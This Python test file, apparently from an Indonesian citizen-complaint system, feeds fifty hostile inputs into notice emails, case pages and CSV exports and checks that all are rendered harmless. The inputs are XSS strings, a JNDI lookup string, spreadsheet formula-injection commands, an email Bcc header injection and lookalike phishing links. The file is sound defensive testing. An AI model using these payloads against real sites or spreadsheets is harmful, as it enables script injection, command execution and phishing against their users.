"""Fifty things a citizen may write to be pressed, opened or carried out, and none is: not in a
mail, on a page of an official, or in a spreadsheet."""

import csv
import io
import re
import tomllib
from functools import cache
from typing import Final

import pytest

from aduan.application.notices.compose import compose_notice, notice_texts
from aduan.application.official.show_case import CaseView, Report
from aduan.domain.case.case import NoticeKind, Place
from aduan.domain.case.unlinked import unlinked
from aduan.domain.lapor.spreadsheet import defused
from aduan.pages.official.case_page import case_page
from aduan.pages.shared.exchange import show
from tests.city import CALENDAR
from tests.unit.outline import Outline
from tests.unit.pages.every_page import SERANG, a_view
from tests.unit.samples import ARRIVED, NOW, PACK, a_case, a_history_entry

OURS: Final = "https://aduan.example/actions/x"
PRESSED: Final = re.compile(
    r"\b(?:https?|ftp|file|tg|intent|whatsapp):[/\\\\]|\b(?:mailto|tel|sms|javascript|data):\S"
    r"|\bwww\.\S|[\w-]\.(?:com|id|net|org|io|me|ly|co|app|xyz|top|click|link|info|online|site|shop"
    r"|vip|cc|ru|to|gl|ee|gg|my)\b",
    re.IGNORECASE,
)
"""What programs that show mail turn into a link."""
WORDS: Final = (
    "https://jahat.com", "HTTP://JAHAT.COM/login", "hTTps://jahat.co.id/?q=1#a", "//jahat.com/x",
    "https://user:sandi@jahat.com", "https://aduan.serangkota.go.id.jahat.com", "www.jahat.com",
    "WWW.jahat.id/ktp", "jahat.com", "jahat.co.id", "masuk.jahat.my.id", "bit.ly/ktp-gratis",
    "s.id/bansos", "wa.me/628111222333", "t.me/loker", "linktr.ee/calo", "goo.gl/x", "tiny.cc/x",
    "jahat\u3002com", "jahat\uff0ecom", "jahat.com.", "(jahat.com)", "<jahat.com>",
    "jahat.com,klik",
    "mailto:a@jahat.com", "a@jahat.com", "tel:08111", "sms:08111?body=ya",
    "whatsapp://send?text=x",
    "intent://jahat#Intent;end", "tg://resolve?domain=x", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>", "ftp://jahat.com/a", "file://server/berbagi",
    "[klik](https://jahat.com)", "<a href='https://jahat.com'>klik</a>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "{{ 7 * 7 }}",
    "${jndi:ldap://x.id}",
    "=HYPERLINK(\"https://jahat.com\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " =1+1", "\ufeff=1+1", "\uff1dcmd", "\t=1+1", "jahat.com\r\nBcc: a@jahat.com",
)  # fmt: skip


@pytest.mark.parametrize("said", WORDS)
def test_in_a_mail_only_our_own_link_can_be_pressed(said: str) -> None:
    place = Place(address=said, kelurahan=said, reason=said)
    written = compose_notice(
        a_case(matter=said, place=place, route_reason=said), NoticeKind.ASSIGNED,
        to="DISHUB", link=OURS, due_at=NOW, now=NOW, texts=TEXTS,
    )  # fmt: skip
    assert not PRESSED.search(written.message.replace(OURS, ""))
    assert not PRESSED.search(written.subject)
    assert written.subject.isprintable()
    assert OURS in written.message


def tags_of(view: CaseView) -> list[str]:
    return Outline(str(show(case_page(view, SERANG), city="Kota")["body"])).tags


@cache
def tags_of_a_plain_case() -> list[str]:
    return tags_of(a_view(a_case()))


@pytest.mark.parametrize("said", WORDS)
def test_on_the_page_of_a_case_it_stands_as_words(said: str) -> None:
    view = a_view(
        a_case(matter=said, place=Place(address=said)),
        history=(a_history_entry(note=said, public_note=said),),
        reports=(Report("rabeg", ARRIVED, said, said),),
    )
    tags, plain = tags_of(view), tags_of_a_plain_case()
    for tag in ("script", "img", "svg", "iframe", "a"):
        assert tags.count(tag) <= plain.count(tag), tag
    assert not PRESSED.search(unlinked(said))


@pytest.mark.parametrize("said", WORDS)
def test_in_a_spreadsheet_no_cell_begins_a_command(said: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([defused(said)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cell.lstrip("\ufeff\u200b \t\r\n")[:1] not in tuple("=+-@\uff1d")
    assert said.replace("'", "") in cell.replace("'", "")


def test_there_are_fifty() -> None:
    assert len(set(WORDS)) >= 50


TEXTS: Final = notice_texts(
    tomllib.loads((PACK / "texts" / "notices.toml").read_text("utf-8")),
    city="Kota",
    zone=CALENDAR.zone,
    offices={"DISHUB": "Dinas Perhubungan"},
)
